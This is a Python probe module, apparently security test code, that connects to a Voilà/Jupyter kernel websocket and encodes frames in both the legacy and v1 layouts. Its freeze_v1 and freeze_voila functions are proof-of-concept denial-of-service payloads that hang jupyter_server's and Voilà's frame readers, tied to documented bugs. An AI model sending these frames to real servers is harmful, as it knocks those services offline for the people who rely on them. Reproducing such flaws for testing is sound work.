"""A script's view of the server: open an app page, talk to its kernel over the websocket (as any client can)."""

from __future__ import annotations

import json
import re
import struct
import time
import urllib.error
import urllib.request
import uuid
from typing import Any

import websocket  # websocket-client

V1 = "v1.kernel.websocket.jupyter.org"


def _headers(message: Any) -> dict[str, str]:
    """Headers by name; repeated ones (Set-Cookie) joined by new lines."""
    return {k: "\n".join(message.get_all(k)) for k in set(message.keys())}


def get(url: str, timeout: float = 120) -> tuple[int, dict[str, str], str]:
    """Status, headers and text of a page (an HTTP error status is an answer too)."""
    try:
        with urllib.request.urlopen(url, timeout=timeout) as r:
            return r.status, _headers(r.headers), r.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, _headers(e.headers), e.read().decode("utf-8", "replace")


def kernel_of(page: str) -> str:
    found = re.search(r'"kernelId": *"([^"]+)"', page)
    assert found, "no kernel id in the page"
    return found.group(1)


def connect(base: str, kernel_id: str, v1: bool) -> websocket.WebSocket:
    """A websocket to the kernel's channels, once the server has connected it (the kernel's status arrived)."""
    url = base.replace("http", "ws", 1) + f"/api/kernels/{kernel_id}/channels?session_id={uuid.uuid4().hex}"
    ws = websocket.create_connection(url, subprotocols=[V1] if v1 else None, timeout=30)
    ws.recv()
    return ws


def message(msg_type: str, content: dict[str, Any]) -> dict[str, Any]:
    header = {"msg_id": uuid.uuid4().hex, "msg_type": msg_type, "session": "probe", "username": "",
              "version": "5.3", "date": ""}
    return {"header": header, "parent_header": {}, "metadata": {}, "content": content, "channel": "shell"}


def legacy_binary(msg: dict[str, Any], *buffers: bytes) -> bytes:
    """jupyter_server's legacy binary layout: 4-byte big-endian count and offsets, the JSON, the buffers."""
    parts = [json.dumps(msg).encode(), *buffers]
    offsets = [4 * (len(parts) + 1)]
    for part in parts[:-1]:
        offsets.append(offsets[-1] + len(part))
    return struct.pack(f"!{len(parts) + 1}I", len(parts), *offsets) + b"".join(parts)


def v1_frame(channel: str, *parts: bytes) -> bytes:
    """The v1 layout: 8-byte little-endian count and offsets, the channel name, the parts."""
    blobs = [channel.encode(), *parts]
    offsets = [8 * (len(blobs) + 2)]
    for blob in blobs:
        offsets.append(offsets[-1] + len(blob))
    return b"".join(n.to_bytes(8, "little") for n in [len(offsets), *offsets]) + b"".join(blobs)


def widget_comm(ws: websocket.WebSocket) -> str:
    """The id of one widget in the kernel (comm_info_request is a message Voilà lets through)."""
    ws.send(json.dumps(message("comm_info_request", {"target_name": "jupyter.widget"})))
    deadline = time.time() + 30
    while time.time() < deadline:
        reply = ws.recv()
        if isinstance(reply, str) and '"comm_info_reply"' in reply:
            return next(iter(json.loads(reply)["content"]["comms"]))
    raise AssertionError("no comm_info_reply")


def freeze_v1() -> bytes:
    """jupyter_server's v1 reader loops 2**40 times on this frame (docs/security.md, bug 1)."""
    return (2**40).to_bytes(8, "little") + bytes(16)


def freeze_voila(comm_id: str) -> bytes:
    """A well-formed legacy frame whose widget echo makes the kernel answer with a binary frame that Voilà's
    reader takes for v1 and loops on (docs/security.md, bug 2); the bad state also raises a traceback."""
    data = {"method": "update", "state": {"_model_module": None}, "buffer_paths": [["_model_module"]]}
    return legacy_binary(message("comm_msg", {"comm_id": comm_id, "data": data}), b"x")


def received(ws: websocket.WebSocket, seconds: float) -> list[str | bytes]:
    """Everything the server sends within ``seconds`` (stops early when it closes the connection)."""
    ws.settimeout(0.5)
    got: list[str | bytes] = []
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            got.append(ws.recv())
        except websocket.WebSocketTimeoutException:
            continue
        except (websocket.WebSocketConnectionClosedException, ConnectionError):
            break
    return got
